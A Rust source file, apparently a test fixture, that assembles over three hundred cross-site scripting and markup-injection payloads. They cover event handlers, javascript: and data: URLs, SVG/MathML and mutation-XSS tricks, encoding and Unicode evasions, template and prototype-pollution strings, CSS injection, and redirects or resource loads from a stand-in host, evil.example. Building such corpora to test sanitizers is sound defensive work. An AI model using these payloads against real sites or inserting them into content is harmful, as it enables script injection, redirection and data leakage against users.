//! Texts that would like to be more than text, family by family. Each sets `window.harmed`, asks for something at evil.example, or hides the
//! page, where it gets through.

const DO: &str = "window.harmed=1";

/// Elements that can carry a handler, and when their browser would call it.
const TAGS: [(&str, &str); 22] = [
    ("img src=x", "onerror"),
    ("img src=https://evil.example/i.png", "onload"),
    ("svg", "onload"),
    ("svg/onload=window.harmed=1//", "onclick"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("video src=https://evil.example/v", "onerror"),
    ("video><source", "onerror"),
    ("audio src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("iframe src=https://evil.example/f", "onload"),
    ("object data=https://evil.example/o", "onerror"),
    ("embed src=https://evil.example/e", "onload"),
    ("marquee", "onstart"),
    ("div tabindex=1 style=animation-name:x", "onanimationstart"),
    ("a href=#", "onmouseover"),
    ("math href=javascript:window.harmed=1", "onclick"),
    ("custom-element contenteditable", "onbeforeinput"),
];

/// Addresses that run something, or lead where a bank may not lead.
pub const ADDRESSES: [&str; 26] = [
    "javascript:window.harmed=1",
    "JaVaScRiPt:window.harmed=1",
    " javascript:window.harmed=1",
    "\u{1}javascript:window.harmed=1",
    "java\tscript:window.harmed=1",
    "java%0ascript:window.harmed=1",
    "java&#10;script:window.harmed=1",
    "java&Tab;script:window.harmed=1",
    "&#106;avascript:window.harmed=1",
    "&#x6A;avascript:window.harmed=1",
    "javascript&colon;window.harmed=1",
    "javascript&#58;window.harmed=1",
    "javascript\\:window.harmed=1",
    "javascript://https://a.example/%0awindow.harmed=1",
    "javascript:/*https://*/window.harmed=1",
    "vbscript:window.harmed=1",
    "data:text/html,<script>parent.harmed=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFybWVkPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload='window.harmed=1'/>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "ftp://evil.example/",
    "//evil.example/",
    "\\\\evil.example\\share",
    "view-source:javascript:window.harmed=1",
    "feed:javascript:window.harmed=1",
];

/// How a text makes an address a link or more.
const LINKS: [&str; 6] = [
    "[press](URL)",
    "[press](<URL>)",
    "<URL>",
    "![picture](URL)",
    "[press][r]\n\n[r]: URL",
    "<a href=\"URL\" target=_self>press</a>",
];

const SVG_AND_MATHML: [&str; 18] = [
    "<svg><script>window.harmed=1</script></svg>",
    "<svg><script href=\"https://evil.example/s.js\"/></svg>",
    "<svg><a xlink:href=\"javascript:window.harmed=1\"><text y=20>press</text></a></svg>",
    "<svg><animate onbegin=window.harmed=1 attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=window.harmed=1>",
    "<svg><use href=\"https://evil.example/u.svg#x\"/></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
    "<svg><image href=\"https://evil.example/i.png\"/></svg>",
    "<svg><foreignObject><body onload=window.harmed=1></foreignObject></svg>",
    "<svg><style>*{background:url(https://evil.example/b)}</style></svg>",
    "<svg><filter><feImage href=\"https://evil.example/f.png\"/></filter></svg>",
    "<svg><title><img src=x onerror=window.harmed=1></title></svg>",
    "<svg><desc><![CDATA[</desc><img src=x onerror=window.harmed=1>]]></svg>",
    "<math><mtext></mtext><maction actiontype=statusline xlink:href=javascript:window.harmed=1>press</maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>window.harmed=1</script></annotation-xml></math>",
    "<math><mi xlink:href=\"data:x,<script>window.harmed=1</script>\">press</mi></math>",
    "<?xml-stylesheet href=\"javascript:window.harmed=1\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"https://evil.example/e\">]><x>&e;</x>",
];

const MUTATION: [&str; 20] = [
    "<noscript><p title=\"</noscript><img src=x onerror=window.harmed=1>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=window.harmed=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.harmed=1>",
    "<svg></p><style><a id=\"</style><img src=x onerror=window.harmed=1>\">",
    "<svg><style>&lt;/style&gt;&lt;img src=x onerror=window.harmed=1&gt;</style></svg>",
    "<listing>&lt;img src=x onerror=window.harmed=1&gt;</listing>",
    "<xmp><p title=\"</xmp><img src=x onerror=window.harmed=1>\"></xmp>",
    "<template><script>window.harmed=1</script></template>",
    "<template shadowrootmode=open><script>window.harmed=1</script></template>",
    "<textarea></textarea><script>window.harmed=1</script>",
    "</textarea><img src=x onerror=window.harmed=1>",
    "</title><script>window.harmed=1</script>",
    "</style><script>window.harmed=1</script>",
    "</script><script>window.harmed=1</script>",
    "--><script>window.harmed=1</script><!--",
    "]]><script>window.harmed=1</script><![CDATA[",
    "<img src=\"x` `<script>window.harmed=1</script>\"` `>",
    "<<script>window.harmed=1//<</script>",
    "<scr<script>ipt>window.harmed=1</scr</script>ipt>",
    "<select><option><style></option></select><img src=x onerror=window.harmed=1></style>",
];

const ENCODINGS: [&str; 22] = [
    "&lt;script&gt;window.harmed=1&lt;/script&gt;",
    "&amp;lt;script&amp;gt;window.harmed=1&amp;lt;/script&amp;gt;",
    "&#60;script&#62;window.harmed=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.harmed=1&#x3e;",
    "&#0000060script&#0000062window.harmed=1",
    "%3Cscript%3Ewindow.harmed=1%3C/script%3E",
    "%253Cscript%253Ewindow.harmed=1",
    "\\u003cscript\\u003ewindow.harmed=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.harmed=1\\x3c/script\\x3e",
    "\\74script\\76window.harmed=1",
    "+ADw-script+AD4-window.harmed=1+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}window.harmed=1\u{ff1c}/script\u{ff1e}",
    "\u{2039}script\u{203a}window.harmed=1",
    "<\u{0}script>window.harmed=1</script>",
    "<scr\u{0}ipt>window.harmed=1</scr\u{0}ipt>",
    "<script\u{b}>window.harmed=1</script>",
    "<script\u{c}>window.harmed=1</script>",
    "<img/src=x/onerror=window.harmed=1>",
    "<IMG SRC=x ONERROR=\"&#119;indow.harmed=1\">",
    "<img src=x onerror\u{a0}=window.harmed=1>",
    "\u{feff}<script>window.harmed=1</script>",
    "<script>/*\u{2028}*/window.harmed=1</script>",
];

const TEMPLATES: [&str; 18] = [
    "{{constructor.constructor('window.harmed=1')()}}",
    "{{$on.constructor('window.harmed=1')()}}",
    "{{{window.harmed=1}}}",
    "${window.harmed=1}",
    "`${window.harmed=1}`",
    "#{window.harmed=1}",
    "<%= window.harmed=1 %>",
    "<?= window.harmed=1 ?>",
    "[[window.harmed=1]]",
    "{%raw%}{{window.harmed=1}}{%endraw%}",
    "<div v-html=\"'<img src=x onerror=window.harmed=1>'\"></div>",
    "<div ng-app ng-init=\"window.harmed=1\"></div>",
    "<div x-data x-init=\"window.harmed=1\"></div>",
    "<div hx-on:load=\"window.harmed=1\" hx-get=https://evil.example/ hx-trigger=load></div>",
    "<div data-bind=\"html: window.harmed=1\"></div>",
    "__proto__[harmed]=1",
    "{\"__proto__\":{\"harmed\":1}}",
    "constructor.prototype.harmed=1",
];

const WRITING: [&str; 16] = [
    "\u{202e}tpircs\u{202c}<script>window.harmed=1</script>",
    "\u{2066}<img src=x onerror=window.harmed=1>\u{2069}",
    "\u{202a}[press](javascript:window.harmed=1)\u{202c}",
    "java\u{200b}script:window.harmed=1",
    "[press](java\u{200d}script:window.harmed=1)",
    "<a\u{200c} href=javascript:window.harmed=1>press</a>",
    "א<script>window.harmed=1</script>ב",
    "م‎<img src=x onerror=window.harmed=1>",
    "👩\u{200d}🚀<svg onload=window.harmed=1>",
    "\u{1f600}\u{fe0f}[press](vbscript:x)",
    "z\u{35c}\u{35d}\u{35e}\u{35f}\u{360}\u{361}\u{362}<script>window.harmed=1</script>",
    "\u{ad}<scr\u{ad}ipt>window.harmed=1</scr\u{ad}ipt>",
    "<ſcript>window.harmed=1</ſcript>",
    "<ımg src=x onerror=window.harmed=1>",
    "\u{2028}<script>window.harmed=1</script>\u{2029}",
    "\u{85}<script>window.harmed=1</script>",
];

const STYLES: [&str; 14] = [
    "<style>*{display:none!important}</style>",
    "<style>@import 'https://evil.example/i.css'</style>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<link rel=preload as=image href=https://evil.example/p.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<p style=\"position:fixed;inset:0;background:red\">all of it</p>",
    "<p style=\"background:url(https://evil.example/u)\">x</p>",
    "<div style=\"width:expression(window.harmed=1)\">x</div>",
    "<div style=\"behavior:url(https://evil.example/b.htc)\">x</div>",
    "<xss style=\"-moz-binding:url(https://evil.example/x.xml#a)\">",
    "{: style=\"display:none\" onclick=\"window.harmed=1\"}",
    "Text {.basic onclick=window.harmed=1}",
    "<table background=https://evil.example/t><td background=https://evil.example/d>x",
];

const PAGES: [&str; 16] = [
    "<script>window.harmed=1</script>",
    "<script src=https://evil.example/s.js></script>",
    "<script type=module>import 'https://evil.example/m.js'</script>",
    "<script type=\"application/json\">{\"bank\":\"https://evil.example/\"}</script>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><input type=submit></form>",
    "<button formaction=javascript:window.harmed=1>press</button>",
    "<isindex action=javascript:window.harmed=1 type=image>",
    "<iframe srcdoc=\"<script>parent.harmed=1</script>\"></iframe>",
    "<frameset onload=window.harmed=1>",
    "<applet code=https://evil.example/a.class>",
    "<portal src=https://evil.example/>",
    "<mock-interview bank=https://evil.example/bank.md open></mock-interview>",
    "<input name=body><input name=attributes><img name=getElementById>",
];

const MARKDOWN: [&str; 16] = [
    "```\"><script>window.harmed=1</script>",
    "```python onload=window.harmed=1",
    "~~~<img src=x onerror=window.harmed=1>",
    "`<script>window.harmed=1</script>`",
    "``` `<img src=x onerror=window.harmed=1>` ```",
    "# <img src=x onerror=window.harmed=1>",
    "> <script>window.harmed=1</script>",
    "- [ ] <img src=x onerror=window.harmed=1>",
    "| <script>window.harmed=1</script> |\n| --- |\n| x |",
    "[x]: javascript:window.harmed=1 \"title\"",
    "[press](https://a.example \"\\\" onmouseover=window.harmed=1 \\\"\")",
    "[press](https://a.example'onmouseover='window.harmed=1)",
    "[<img src=x onerror=window.harmed=1>](https://a.example)",
    "[^1]: <script>window.harmed=1</script>",
    "<!-- --!><script>window.harmed=1</script>",
    "*_**__<script>window.harmed=1</script>__**_*",
];

/// Texts and addresses of images. Where the page asks for images, these are still nowhere but here.
const IMAGES: [&str; 16] = [
    "![<img src=x onerror=window.harmed=1>](x.png)",
    "![\" onerror=\"window.harmed=1](x.png)",
    "![x](x.png\"onerror=\"window.harmed=1)",
    "![x](x.png 'onload=window.harmed=1')",
    "![x](<x.png onerror=window.harmed=1>)",
    "![x](x.svg#<script>window.harmed=1</script>)",
    "![x](/&#9;/evil.example/i.png)",
    "![x](&#32;//evil.example/i.png)",
    "![x](/\\\\evil.example/i.png)",
    "![x](\\\\/evil.example/i.png)",
    "![x](https:evil.example/i.png)",
    "![x](https:\\\\\\\\evil.example/i.png)",
    "![x](HTTP://evil.example/i.png)",
    "![x](http&colon;//evil.example/i.png)",
    "![x][r]\n\n[r]: //evil.example/i.png",
    "![![x](//evil.example/i.png)](javascript:window.harmed=1)",
];

/// More than three hundred, no two alike.
pub fn all() -> Vec<String> {
    let tags =
        TAGS.iter().flat_map(|(tag, event)| [format!("<{tag} {event}={DO}>x"), format!("\"'><{tag} {event}=\"{DO}\" x='")]);
    let links = ADDRESSES.iter().flat_map(|address| LINKS.iter().map(|link| link.replace("URL", address)));
    let families: [&[&str]; 10] = [
        &SVG_AND_MATHML,
        &MUTATION,
        &ENCODINGS,
        &TEMPLATES,
        &WRITING,
        &STYLES,
        &PAGES,
        &MARKDOWN,
        &IMAGES,
        &["<script>window.harmed=2"],
    ];
    tags.chain(links).chain(families.concat().into_iter().map(str::to_owned)).collect()
}
